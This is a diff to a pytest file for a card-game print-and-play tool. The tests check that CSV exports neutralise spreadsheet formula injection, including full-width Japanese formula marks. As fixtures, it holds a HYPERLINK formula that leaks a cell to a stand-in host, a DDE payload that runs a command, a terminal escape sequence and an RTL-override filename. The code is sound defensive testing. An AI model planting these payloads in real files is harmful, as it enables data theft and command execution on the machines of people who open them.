@@ -17,21 +17,24 @@ from conftest import DECK_YAML, FEW_CARDS, make_workspace, run
 from pnpgen.safetext import CONTROL, csv_cell, csv_text, shown, shown_name
 
 EVIL = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)"]
+# The same typed with a Japanese input method (full-width): Japanese Excel runs them too
+WIDE_EVIL = ["＝HYPERLINK(\"http://x.example/\",\"click\")", "＋1+1", "－2+3", "＠SUM(A1:A2)"]
+LIVE = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
 
 
 def _cells(data: bytes) -> list[list[str]]:
     return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
 
 
-def _evil_workspace(tmp_path: Path) -> Path:
-    deck = DECK_YAML + "".join(f"  - {{name: {json.dumps(n)}, text: 本文}}\n" for n in EVIL)
+def _evil_workspace(tmp_path: Path, names: list[str] = EVIL) -> Path:
+    deck = DECK_YAML + "".join(f"  - {{name: {json.dumps(n, ensure_ascii=False)}, text: 本文}}\n" for n in names)
     return make_workspace(tmp_path / "ws", deck=deck)
 
 
-def _inert(rows: list[list[str]]) -> None:
+def _inert(rows: list[list[str]], names: list[str] = EVIL) -> None:
     cells = [c for row in rows for c in row]
-    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
-    for name in EVIL:
+    assert not any(c.startswith(LIVE) for c in cells)
+    for name in names:
         assert "'" + name in cells
 
 
@@ -43,6 +46,31 @@ def test_formulas_in_names_are_inert_in_every_csv(tmp_path):
     _inert(_cells((ws / "build/test/doujin/order.csv").read_bytes()))
     assert run(ws, "export-sheet", "--game", "test", "--deck", "cards", "--out", str(tmp_path / "cards.csv")) == 0
     _inert(_cells((tmp_path / "cards.csv").read_bytes()))
+
+
+@pytest.mark.parametrize("writer", ["build", "export", "export-sheet"])
+def test_full_width_formula_marks_are_inert_in_each_csv(tmp_path, capsys, writer):
+    """A name typed with a Japanese input method, ＝HYPERLINK(…) or ＋1+1, was written as it is:
+    Japanese Excel reads a full-width ＝ ＋ － ＠ as the start of a formula."""
+    ws = _evil_workspace(tmp_path, WIDE_EVIL)
+    if writer == "build":
+        assert run(ws, "build", "--game", "test", "--no-rulebook", "--jobs", "1") == 0
+        written = ws / "build/test/shop/order.csv"
+    elif writer == "export":
+        assert run(ws, "export", "--game", "test", "--preset", "doujin") == 0
+        written = ws / "build/test/doujin/order.csv"
+    else:
+        assert run(ws, "export-sheet", "--game", "test", "--deck", "cards") == 0
+        written = ws / "data/test/decks/cards.csv"
+    _inert(_cells(written.read_bytes()), WIDE_EVIL)
+    if writer == "export-sheet":  # and reads back to the names as typed
+        (ws / "data/test/decks/cards.yaml").write_text(DECK_YAML.replace("pieces:\n", "pieces: {file: cards.csv}\n"),
+                                                        encoding="utf-8")
+        from pnpgen.data.load import load_game
+        from pnpgen.data.workspace import Workspace
+
+        names = [p.values["name"] for p in load_game(Workspace(ws), "test").decks[0].pieces]
+        assert names == WIDE_EVIL
 
 
 def test_the_neutralised_csv_reads_back_to_the_same_names(tmp_path, capsys):
@@ -160,8 +188,8 @@ def test_shown_leaves_no_control_character(text):
 @given(st.text())
 def test_csv_cells_round_trip_and_are_never_live(text):
     cell = csv_cell(text)
-    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
-    assert csv_text(cell) == text or (text.startswith("'") and text[1:2] in ("=", "+", "-", "@", "\t", "\r"))
+    assert not cell.startswith(LIVE)
+    assert csv_text(cell) == text or (text.startswith("'") and text[1:2] in LIVE)
 
 
 @pytest.mark.parametrize("name", ["a\nb", "c\x1b]0;pwned\x07d", "e\u202egpj.exe"])
